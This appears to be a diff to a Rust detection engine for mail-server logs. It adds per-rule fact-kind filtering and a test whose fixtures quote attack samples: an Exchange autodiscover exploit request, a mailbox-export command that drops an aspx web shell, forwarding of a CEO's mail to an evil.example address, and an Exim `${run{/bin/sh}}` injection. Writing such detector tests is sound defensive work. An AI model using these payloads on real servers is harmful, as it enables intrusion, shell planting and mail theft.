@@ -232,7 +232,13 @@ pub trait Rule: Send {
     /// A file starts: its number and path (facts name files by number; rules that judge a
     /// file's own order, such as the log-integrity ones, read the path).
     fn file_started(&mut self, _id: u32, _path: &str) {}
-    /// Sees one fact (rules that only read [`Shared`] state keep the default).
+    /// The kinds of fact [`Rule::observe`] reads: the engine hands the rule only those (a
+    /// rule that reads every kind, or filters otherwise, keeps the default).
+    fn kinds(&self) -> Kinds {
+        Kinds::ALL
+    }
+    /// Sees one fact of its [`Rule::kinds`] (rules that only read [`Shared`] state keep the
+    /// default).
     fn observe(&mut self, _f: &Fact) {}
     /// Sees one fact of a log that repeats another one's lines (Exim's `rejectlog`, whose
     /// every line is also in the `mainlog`): only rules that compare the two read it; every
@@ -256,6 +262,48 @@ pub trait Rule: Send {
     ) -> Vec<Finding> {
         self.finish(files, shared)
     }
+}
+
+/// A set of fact kinds ([`Rule::kinds`]): on a mail server's log most rules read one or two
+/// kinds of the dozens, and calling each rule for every fact only to return was a quarter of
+/// the detection thread's work.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Kinds(u64);
+
+// Every kind has a bit.
+const _: () = assert!((crate::events::record::Kind::AccountChange as u32) < 64);
+
+impl Kinds {
+    /// Every kind.
+    pub const ALL: Kinds = Kinds(u64::MAX);
+
+    /// These kinds.
+    pub const fn of(kinds: &[crate::events::record::Kind]) -> Kinds {
+        let mut bits = 0u64;
+        let mut i = 0;
+        while i < kinds.len() {
+            bits |= 1 << (kinds[i] as u32);
+            i += 1;
+        }
+        Kinds(bits)
+    }
+
+    /// Whether `kind` is one of them.
+    pub fn has(self, kind: crate::events::record::Kind) -> bool {
+        self.0 & (1 << (kind as u32)) != 0
+    }
+}
+
+/// For each kind of fact (by its number), the indices of the rules of `rules` that read it,
+/// in their order.
+pub fn readers(rules: &[Box<dyn Rule>]) -> Vec<Vec<usize>> {
+    (0..64u32)
+        .map(|k| {
+            (0..rules.len())
+                .filter(|&i| rules[i].kinds().0 & (1 << k) != 0)
+                .collect()
+        })
+        .collect()
 }
 
 /// Thresholds of the rules (defaults documented in `docs/detections.md`). Read from the
@@ -899,5 +947,96 @@ pub mod tests {
         }
         shared.settle();
         rule.finish(files, &shared)
+    }
+
+    /// Every kind of fact.
+    const ALL_KINDS: [Kind; 34] = [
+        Kind::Connect,
+        Kind::Disconnect,
+        Kind::LostConnection,
+        Kind::AuthSuccess,
+        Kind::AuthFailure,
+        Kind::AuthBackendFailure,
+        Kind::RelayDenied,
+        Kind::RecipientUnknown,
+        Kind::Vrfy,
+        Kind::Expn,
+        Kind::Reject,
+        Kind::ProtocolError,
+        Kind::MessageReceived,
+        Kind::MessageQueued,
+        Kind::Delivery,
+        Kind::Forwarded,
+        Kind::Service,
+        Kind::RateLimit,
+        Kind::HttpRequest,
+        Kind::AdminCommand,
+        Kind::FileWrite,
+        Kind::MailboxRule,
+        Kind::MailboxForwarding,
+        Kind::TransportRule,
+        Kind::AuditOperation,
+        Kind::MailboxAccess,
+        Kind::MailboxChange,
+        Kind::MailboxSearch,
+        Kind::MailboxExport,
+        Kind::PermissionGrant,
+        Kind::AppConsent,
+        Kind::AccessSetting,
+        Kind::AuditSetting,
+        Kind::AccountChange,
+    ];
+
+    #[test]
+    fn rules_that_declare_their_kinds_read_no_other() {
+        use super::{all, Kinds, Shared, Thresholds};
+        assert_eq!(ALL_KINDS.len(), Kind::AccountChange as usize + 1);
+        // A detail every rule would act on if it read it: an exploit's request, a web shell's
+        // path, a forwarding and redirect to outside, an export cmdlet, a consent.
+        let detail = r#"{"op":"New-MailboxExportRequest","cmd":"New-MailboxExportRequest -Mailbox ceo -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx","method":"POST","url":"/autodiscover/autodiscover.json","query":"@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example","anchor":"X-BEResource=localhost~1942062522/ecp/DDI/DDIService.svc/SetObject","ua":"python-requests/2.31","path":"C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx","mailbox":"ceo@lab.example","name":"fwd","forward_to":["drop@evil.example"],"redirect_to":["drop@evil.example"],"copy_to":["drop@evil.example"],"delete":true}"#;
+        assert!(crate::events::detail::Detail::from_text(detail).is_some());
+        let t = Thresholds::default();
+        let files: &Files = &[("var/log/mail.log".to_string(), None)];
+        let mut checked = 0;
+        for mut rule in all(&t) {
+            let kinds = rule.kinds();
+            if kinds == Kinds::ALL {
+                continue;
+            }
+            checked += 1;
+            let mut line = 0;
+            for k in ALL_KINDS.into_iter().filter(|k| !kinds.has(*k)) {
+                for status in ["created", "200", "rejected", "success"] {
+                    for i in 0..60 {
+                        line += 1;
+                        rule.observe(&Fact::new(
+                            T0 + line * 1_000_000,
+                            k,
+                            Some("m365"),
+                            [
+                                Some(&format!("203.0.113.{}", i % 7)),
+                                Some("eve@lab.example"),
+                                Some("ceo@lab.example"),
+                                Some("${run{/bin/sh}}@evil.example"),
+                                Some(&format!("user{i}@lab.example")),
+                                None,
+                                Some("4BC2D1F07E"),
+                                Some(status),
+                                Some("mx.evil.example[203.0.113.9]:25"),
+                                Some(detail),
+                            ],
+                            0,
+                            line as u64,
+                        ));
+                    }
+                }
+            }
+            let found = rule.finish(files, &Shared::default());
+            assert!(
+                found.is_empty(),
+                "a rule read a kind it does not declare: {found:#?}"
+            );
+        }
+        assert!(checked >= 15, "{checked}");
     }
 }
